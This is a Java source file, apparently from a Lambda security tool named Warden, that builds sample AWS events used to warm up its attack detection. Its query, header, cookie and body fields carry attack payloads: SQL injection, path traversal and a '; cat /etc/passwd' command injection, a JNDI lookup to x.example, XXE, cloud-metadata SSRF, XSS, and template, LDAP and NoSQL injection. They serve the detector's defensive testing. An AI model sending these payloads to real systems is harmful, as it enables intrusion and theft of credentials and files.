package dev.warden.lambda;

import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.ApplicationLoadBalancerRequestEvent;
import com.amazonaws.services.lambda.runtime.events.KinesisEvent;
import com.amazonaws.services.lambda.runtime.events.SNSEvent;
import com.amazonaws.services.lambda.runtime.events.SQSEvent;
import com.amazonaws.services.lambda.runtime.events.ScheduledEvent;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Built-in sample events that drive the common extractors and the finding path when Warden primes
 * itself (at init and before a SnapStart snapshot). Each carries benign values and a few attacks
 * in several locations (query, header, cookie, JSON body), so extraction, JSON walking,
 * normalization, detection, evidence and the decision are all loaded and compiled. Built in
 * code, not parsed, so priming needs no files. Thread-safe: every call builds new events.
 */
final class PrimingEvents {

  private PrimingEvents() {}

  static final String JSON_BODY = "{\"order\":{\"id\":\"ord-10042\",\"customer\":\"c-7731\",\"email\":\"ada@example.com\","
      + "\"note\":\"Please leave the parcel at the back door (ring twice); thanks!\",\"created\":\"2024-11-05T10:42:00Z\","
      + "\"items\":[{\"sku\":\"SKU-10001\",\"name\":\"Trail runner 42\",\"qty\":2,\"price\":89.99,"
      + "\"description\":\"Lightweight, breathable; recycled polyester upper (65%), rubber outsole.\"},"
      + "{\"sku\":\"B-2\",\"name\":\"x' OR '1'='1\",\"tags\":[\"sale\",\"new\"]}]},"
      + "\"redirect\":\"http://169.254.169.254/latest/meta-data/\",\"bio\":\"<img src=x onerror=alert(1)>\","
      + "\"website\":\"https://shop.example.com/cart?step=2&ref=mail\",\"version\":\"1.4.2\"}";

  /**
   * REST API, HTTP API, ALB, SQS, SNS, Kinesis and EventBridge events, plus a generic map. The
   * other triggers (S3, DynamoDB, Kafka, WebSocket, CloudWatch Logs) share the JSON and text
   * walkers primed here; their own extractor classes load on first use.
   */
  static List<Object> all() {
    List<Object> out = new ArrayList<>();
    out.add(rest());
    out.add(http());
    out.add(alb());
    out.add(sqs());
    out.add(sns());
    out.add(kinesis());
    out.add(scheduled());
    out.add(generic());
    return out;
  }

  /** What browsers and API clients send, plus one attack in the user agent and one in a cookie. */
  private static Map<String, String> headers() {
    Map<String, String> h = new LinkedHashMap<>();
    h.put("content-type", "application/json");
    h.put("accept", "application/json, text/plain, */*");
    h.put("accept-language", "en-GB,en;q=0.9,de;q=0.8");
    h.put("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjLTc3MzEifQ.c2lnbmF0dXJl");
    h.put("origin", "https://shop.example.com");
    h.put("referer", "https://shop.example.com/cart?step=2");
    h.put("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"
        + " ${jndi:ldap://x.example/a}");
    h.put("cookie", "session=5f2c9a1e77b04d2a; theme=dark; path=..%2f..%2fetc%2fpasswd");
    h.put("x-forwarded-for", "203.0.113.7, 198.51.100.2");
    h.put("x-request-id", "b7e3c1d2-9f4a-4e1b-8c2d-1a2b3c4d5e6f");
    return h;
  }

  /** Words, ids, numbers, dates and a few attacks. */
  private static Map<String, String> query() {
    Map<String, String> q = new LinkedHashMap<>();
    q.put("q", "blue running shoes");
    q.put("sort", "price:asc");
    q.put("page", "2");
    q.put("from", "2024-11-05");
    q.put("currency", "EUR");
    q.put("utm_source", "newsletter");
    q.put("id", "1 UNION SELECT password FROM users--");
    q.put("file", "../../../etc/passwd");
    q.put("cmd", "; cat /etc/passwd");
    return q;
  }

  static APIGatewayProxyRequestEvent rest() {
    return new APIGatewayProxyRequestEvent()
        .withHttpMethod("POST")
        .withPath("/orders/1")
        .withPathParameters(Map.of("customer", "c-7731", "id", "ord-10042"))
        .withQueryStringParameters(query())
        .withHeaders(headers())
        .withBody(JSON_BODY)
        .withIsBase64Encoded(false);
  }

  static APIGatewayV2HTTPEvent http() {
    return APIGatewayV2HTTPEvent.builder()
        .withRawPath("/orders")
        .withQueryStringParameters(query())
        .withHeaders(headers())
        .withCookies(List.of("theme=dark", "pref={{7*7}}"))
        .withBody("id=1&note=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        .withIsBase64Encoded(false)
        .build();
  }

  static ApplicationLoadBalancerRequestEvent alb() {
    ApplicationLoadBalancerRequestEvent e = new ApplicationLoadBalancerRequestEvent();
    e.setHttpMethod("GET");
    e.setPath("/search");
    e.setQueryStringParameters(query());
    Map<String, String> h = headers();
    h.put("content-type", "text/plain");
    e.setHeaders(h);
    e.setBody("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
    e.setIsBase64Encoded(false);
    return e;
  }

  static SQSEvent sqs() {
    List<SQSEvent.SQSMessage> records = new ArrayList<>();
    for (int i = 0; i < 2; i++) {
      SQSEvent.SQSMessage m = new SQSEvent.SQSMessage();
      m.setMessageId("00000000-0000-0000-0000-00000000000" + i);
      m.setEventSource("aws:sqs");
      m.setBody(i == 0 ? "{\"file\":\"invoices/1.pdf\"}" : JSON_BODY);
      records.add(m);
    }
    SQSEvent e = new SQSEvent();
    e.setRecords(records);
    return e;
  }

  static SNSEvent sns() {
    SNSEvent.SNS sns = new SNSEvent.SNS().withSubject("order created").withMessage(JSON_BODY);
    return new SNSEvent().withRecords(List.of(new SNSEvent.SNSRecord().withSns(sns)));
  }

  static KinesisEvent kinesis() {
    KinesisEvent.Record data = new KinesisEvent.Record();
    data.setPartitionKey("p-1");
    data.setData(ByteBuffer.wrap(JSON_BODY.getBytes(StandardCharsets.UTF_8)));
    KinesisEvent.KinesisEventRecord r = new KinesisEvent.KinesisEventRecord();
    r.setKinesis(data);
    KinesisEvent e = new KinesisEvent();
    e.setRecords(List.of(r));
    return e;
  }

  static ScheduledEvent scheduled() {
    ScheduledEvent e = new ScheduledEvent();
    e.setSource("app.orders");
    e.setDetailType("order");
    e.setDetail(Map.of("note", "; cat /etc/passwd", "id", "ord-1", "ref", "${jndi:ldap://x.example/a}"));
    return e;
  }

  static Map<String, Object> generic() {
    Map<String, Object> m = new LinkedHashMap<>();
    m.put("name", "Ada");
    m.put("filter", "*)(uid=*))(|(uid=*");
    m.put("tags", List.of("a", "{\"$ne\":1}", "${7*7}"));
    return m;
  }
}
